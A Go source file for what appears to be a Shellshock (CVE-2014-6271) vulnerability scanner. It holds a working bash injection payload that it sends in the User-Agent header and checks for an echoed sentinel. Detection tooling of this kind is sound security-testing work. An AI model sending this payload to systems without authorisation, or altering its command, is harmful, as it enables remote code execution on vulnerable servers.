package scanner

import (
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"strings"
	"time"

	"github.com/maxvaer/shockprobe/internal/config"
)

const (
	// Payload is the CVE-2014-6271 function definition followed by a command
	// that prints Sentinel into the CGI response.
	Payload = "() { :; }; echo; echo; /bin/bash -c 'echo VULNERABLE'"

	// Sentinel only appears in the body when a shell evaluated Payload.
	Sentinel = "VULNERABLE"

	maxBodySize = 10 << 20
)

// Prober tests a single target and always returns an Outcome.
type Prober interface {
	Probe(ctx context.Context, target string) Outcome
}

// Requester is the HTTP Prober. It injects the Shellshock payload into the
// User-Agent header of a single GET request.
type Requester struct {
	client *http.Client
}

// NewRequester creates a Requester from the provided options. TLS
// verification is disabled and redirects are never followed.
func NewRequester(opts *config.Options) (*Requester, error) {
	threads := opts.Threads
	if threads < 1 {
		threads = 1
	}

	transport := &http.Transport{
		TLSClientConfig: &tls.Config{InsecureSkipVerify: true},
		DialContext: (&net.Dialer{
			Timeout: opts.Timeout,
		}).DialContext,
		MaxIdleConnsPerHost: threads,
		MaxIdleConns:        threads,
	}

	if opts.Proxy != "" {
		proxyURL, err := url.Parse(opts.Proxy)
		if err != nil {
			return nil, fmt.Errorf("invalid proxy URL %q: %w", opts.Proxy, err)
		}
		transport.Proxy = http.ProxyURL(proxyURL)
	}

	client := &http.Client{
		Transport: transport,
		Timeout:   opts.Timeout,
		// Classify the CGI handler's own response, not the redirect target.
		CheckRedirect: func(req *http.Request, via []*http.Request) error {
			return http.ErrUseLastResponse
		},
	}

	return &Requester{client: client}, nil
}

// Probe sends the payload to target and classifies the response. Transport
// failures are returned as an Error outcome, never as a Go error.
func (r *Requester) Probe(ctx context.Context, target string) Outcome {
	start := time.Now()
	out := Outcome{URL: target}

	req, err := http.NewRequestWithContext(ctx, http.MethodGet, target, nil)
	if err != nil {
		return failed(out, err, start)
	}
	req.Header.Set("User-Agent", Payload)
	req.Header.Set("Accept", "*/*")

	resp, err := r.client.Do(req)
	if err != nil {
		return failed(out, err, start)
	}
	defer resp.Body.Close()

	body, err := io.ReadAll(io.LimitReader(resp.Body, maxBodySize))
	if err != nil {
		return failed(out, fmt.Errorf("reading response body: %w", err), start)
	}

	out.StatusCode = resp.StatusCode
	out.ContentLength = int64(len(body))
	out.Duration = time.Since(start)
	out.Detail = fmt.Sprintf("Status Code: %d, Content Length: %d", out.StatusCode, out.ContentLength)
	if strings.Contains(string(body), Sentinel) {
		out.Verdict = Vulnerable
	} else {
		out.Verdict = NotVulnerable
	}
	return out
}

func failed(out Outcome, err error, start time.Time) Outcome {
	out.Verdict = Error
	out.Detail = err.Error()
	out.Err = err
	out.Duration = time.Since(start)
	return out
}
